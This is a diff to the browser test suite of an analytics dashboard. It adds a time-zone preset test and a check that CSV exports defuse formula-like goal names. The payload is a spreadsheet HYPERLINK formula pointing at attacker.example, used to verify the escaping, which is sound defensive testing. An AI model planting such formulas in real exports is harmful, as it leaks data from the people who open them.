@@ -30,10 +30,11 @@ and then, in the browser:
      property filter, then deleted) and funnels (three steps, any order, 12h) are defined
      through the forms and their figures equal their reports; the e-commerce button adds the
      standard funnel, which is then deleted; a 91d window shows the API's 400 message.
-  6. A site's read key shows a site id field and the same figures, and the API's 403 message
+  6. A site in Pago Pago seen from a browser in Kiritimati: presets are the site's days.
+  7. A site's read key shows a site id field and the same figures, and the API's 403 message
      when it tries to create a goal; a wrong token shows the API's error message instead of
      figures.
-  7. Through a proxy whose goals and funnels endpoints answer 404 (as before they existed),
+  8. Through a proxy whose goals and funnels endpoints answer 404 (as before they existed),
      the page shows "no goals" / "no funnels" with the reason, and the rest still works.
 
 Prints `dashboard: N passed, M failed`; exits 1 when anything failed.
@@ -73,6 +74,7 @@ ADMIN_TOKEN = "dashboard-test-admin-token"
 RUN = uuid.uuid4().hex[:10]
 SITE = f"dash-{RUN}"
 KEYS = {}  # the site's read and owner keys, from rotate_keys
+FORMULA_GOAL = '=HYPERLINK("https://attacker.example/?leak","Carts")'
 MONEY_KEYS = ("revenue", "refunds", "net_revenue", "aov")
 RECON_COUNTS = ("orders", "confirmed", "tracked", "confirmed_not_tracked", "confirmed_not_in_browser",
                 "tracked_not_confirmed", "amount_mismatches")
@@ -411,6 +413,10 @@ def define_goals_and_funnels(tributary):
     status, body = tributary.api("POST", f"/v1/sites/{SITE}/goals",
                                  {"name": "Purchases", "match": {"action": "purchase"}, "revenue": True})
     log(f"POST /goals answered {status}" + ("" if status == 201 else f" {body}"))
+    # A name a spreadsheet would run as a formula: the goals table's CSV must defuse it.
+    status, body = tributary.api("POST", f"/v1/sites/{SITE}/goals",
+                                 {"name": FORMULA_GOAL, "match": {"action": "add_to_cart"}})
+    log(f"POST /goals (formula-like name) answered {status}" + ("" if status == 201 else f" {body}"))
     status, body = tributary.api("POST", f"/v1/sites/{SITE}/funnels/templates/ecommerce")
     log(f"POST /funnels/templates/ecommerce answered {status}" + ("" if status == 201 else f" {body}"))
 
@@ -503,6 +509,39 @@ def rotate_keys(tributary):
     check("rotating the site's keys gives a read key and an owner key", status == 201
           and keys["read_key"].startswith("rk_") and keys["owner_key"].startswith("ok_"), f"{status} {keys}")
     KEYS.update(keys)
+
+
+def test_presets_in_site_time_zone(tributary, expected, workdir):
+    """Presets are days in the site's time zone, not the browser's: a site in Pago Pago
+    (UTC-11) seen from a browser in Kiritimati (UTC+14), whose dates always differ."""
+    site = f"{SITE}-tz"
+    status, body = tributary.api("POST", "/v1/admin/sites", {"id": site, "name": "Pago Pago shop", "timezone": "Pacific/Pago_Pago"})
+    check("a second site in Pacific/Pago_Pago is created", status == 201, f"{status} {body}")
+    driver = browser(workdir, "zone")
+    try:
+        driver.execute_cdp_cmd("Emulation.setTimezoneOverride", {"timezoneId": "Pacific/Kiritimati"})
+        driver.get(tributary.query + "/")
+        driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").send_keys(ADMIN_TOKEN)
+        driver.find_element(By.CSS_SELECTOR, "[data-testid=load]").click()
+        picker = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-select]")
+        wait_for(lambda: site in [o.get_attribute("value") for o in Select(picker).options], 15)
+        Select(picker).select_by_value(site)
+        # The site's time zone arrives with its first load.
+        wait_for(lambda: driver.execute_script("return document.body.dataset.state === 'ready' && "
+                                               "(document.body.dataset.loaded || '').startsWith(arguments[0] + ' ')", site), 15)
+        browser_day = driver.execute_script("return new Date().toLocaleDateString('en-CA')")
+        weeks = []
+        for moment in ("before", "after"):  # the click may straddle midnight in Pago Pago
+            if moment == "after":
+                driver.find_element(By.CSS_SELECTOR, "[data-preset=last7]").click()
+                shown = driver.execute_script("return [document.getElementById('from').value, document.getElementById('to').value]")
+            today = datetime.datetime.now(zoneinfo.ZoneInfo("Pacific/Pago_Pago")).date()
+            weeks.append([(today - datetime.timedelta(days=6)).isoformat(), today.isoformat()])
+        check(f"the 'Last 7 days' preset of a Pago Pago site is Pago Pago's week {weeks[-1]}, "
+              f"not the browser's (its today is {browser_day})",
+              shown in weeks and browser_day != shown[1], f"shown {shown}")
+    finally:
+        driver.quit()
 
 
 def test_read_key_and_bad_token(tributary, expected, workdir):
@@ -868,6 +907,7 @@ def check_csv(driver, directory, name, testid):
     check(f"{name}: the {testid} CSV download ({file_name}) holds exactly the table's {len(want) - 1} rows with their raw data-values, CRLF lines",
           data and rows == want and text.endswith("\r\n") and text.count("\r\n") == text.count("\n"),
           f"file {rows[:3]}…, table {want[:3]}…")
+    return rows
 
 
 PANELS = ("overview", "days", "sources", "attribution", "customers", "carts", "products", "retention", "reconciliation", "goals", "funnel")
@@ -977,7 +1017,10 @@ def test_reports(tributary, expected, workdir):
                                     " !document.querySelector('#carts [data-testid=unfiltered]')"))
 
         for testid in ("sources-table", "attribution-table", "retention-table", "products-table", "reconciliation-table", "goals-table"):
-            check_csv(driver, downloads, "reports", testid)
+            rows = check_csv(driver, downloads, "reports", testid)
+        cells = [cell for row in rows for cell in row]
+        check("reports: the goals CSV holds the formula-like goal name with a leading apostrophe, never as a formula",
+              "'" + FORMULA_GOAL in cells and FORMULA_GOAL not in cells, str(cells[:12]))
 
         check_layout(driver, workdir, "reports", 1400)
         check_layout(driver, workdir, "reports", 390)
@@ -1284,7 +1327,7 @@ def main():
         expected = simulate(tributary, workdir)
         define_goals_and_funnels(tributary)
         rotate_keys(tributary)
-        for test in (test_admin_view, test_reports, test_definitions,
+        for test in (test_admin_view, test_reports, test_definitions, test_presets_in_site_time_zone,
                      test_read_key_and_bad_token, test_without_goals_and_funnels):
             try:
                 test(tributary, expected, workdir)
